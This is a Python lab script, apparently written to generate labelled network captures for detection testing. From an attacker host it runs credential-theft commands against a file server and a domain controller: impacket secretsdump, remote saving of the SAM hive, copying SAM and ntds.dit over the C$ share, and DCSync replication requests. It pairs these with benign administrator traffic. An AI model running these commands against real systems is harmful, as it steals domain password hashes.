# SPDX-License-Identifier: Apache-2.0
"""Secrets of machines and of the domain, taken; and what administrators ask the same pipes."""

from lab import ADMIN_PASSWORD, Controller
from net import ADMIN, admin_tool, expect, impacket


def boot_key(net):
    """The keys that a Windows server would have; their classes, the boot key itself, Samba's registry has not."""
    def make():
        lsa = r"SYSTEM\CurrentControlSet\Control\Lsa"
        for key in (r"SYSTEM\Select", rf"{lsa}\JD", rf"{lsa}\Skew1", rf"{lsa}\GBG", rf"{lsa}\Data", r"SAM\SAM"):
            net.files.host.run("net", "registry", "createkey", "HKLM\\" + key, "-s", net.files.conf, check=False)
        return True
    net.machine("boot key", make)


def secrets_of_registry(net):
    boot_key(net)
    server = net.files.host
    with net.capture("secretsdump_registry", f"tcp port 445 and host {net.evil.address}"):
        expect(impacket(net.evil, "secretsdump", ADMIN + server.address), "rpc_x_bad_stub_data")
    only = f"tcp port 445 and host {net.evil.address}"
    with net.capture("registry_save", only):
        expect(admin_tool(net.evil, "net", "rpc", "registry", "save", r"HKLM\SAM", r"C:\Windows\Temp\notes.tmp", "-S",
                          server.address), "Unable to save")
    drive = net.files.dir / "drive" / "Windows"
    for name, begins in (("System32/config/SAM", b"regf"), ("Temp/sys.log", b"regf"),
                         ("NTDS/ntds.dit", b"\xef\xcd\xab\x89")):
        (drive / name).parent.mkdir(parents=True, exist_ok=True)
        (drive / name).write_bytes(begins + bytes(4092))
    for name, path in (("hive_taken", "System32/config/SAM"), ("hive_renamed_taken", "Temp/sys.log"),
                       ("directory_file_taken", "NTDS/ntds.dit")):
        with net.capture(name, only):
            expect(admin_tool(net.evil, "smbclient", f"//{server.address}/C$", "-c", f"get Windows/{path} /dev/null"),
                   "getting file")


def secrets_of_directory(net):
    controller = net.dc.host
    only = f"tcp and host {net.evil.address} and not port 88"
    with net.capture("secretsdump_directory", only):
        expect(impacket(net.evil, "secretsdump", "-just-dc-user", "alice", ADMIN + controller.address),
               "DRSUAPI method")
    for name, way in (("dcsync_pipe", "ncacn_np"), ("dcsync_tcp", "ncacn_ip_tcp")):
        with net.capture(name, only, packets=60):
            admin_tool(net.evil, "rpcclient", f"{way}:{controller.address}[seal]", "-c",
                       "dsgetncchanges DC=test,DC=lab")


def benign_registry(net):
    """An administrator looks at the registry; a backup program's service too."""
    with net.capture("benign_registry", f"tcp port 445 and host {net.ws1.address}"):
        for key in (r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion",
                    r"HKLM\SYSTEM\CurrentControlSet\Services"):
            admin_tool(net.ws1, "net", "rpc", "registry", "enumerate", key, "-S", "files")
        admin_tool(net.ws1, "rpcclient", "files", "-c", "winreg_enumkey HKLM")
        impacket(net.ws1, "reg", ADMIN + net.files.host.address, "query", "-keyName",
                 r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion")


def benign_directory(net):
    """What a domain's controller is asked by administrators, members and another controller."""
    with net.capture("benign_directory", f"tcp and host {net.dc.host.address} and not port 88 and not port 389"):
        admin_tool(net.ws1, "rpcclient", "ncacn_np:dc1[seal]", "-c",
                   "dscracknames alice; dsgetdcinfo TEST; enumdomusers")
        admin_tool(net.ws1, "net", "rpc", "user", "-S", "dc1")
        admin_tool(net.ws1, "samba-tool", "drs", "showrepl", "dc1")


def benign_replication(net):
    """A second controller begins to work, and is told to fetch what is new."""
    second = Controller(net.lab, "dc2", net.dc)
    rpc = f"tcp and host {second.host.address} and not port 88 and not port 389 and not port 53"
    with net.capture("benign_replication", rpc, packets=400):
        second.start()
        expect(second.tool("drs", "replicate", "dc2", "dc1", "DC=test,DC=lab", "-U",
                           f"Administrator%{ADMIN_PASSWORD}"), "was successful")
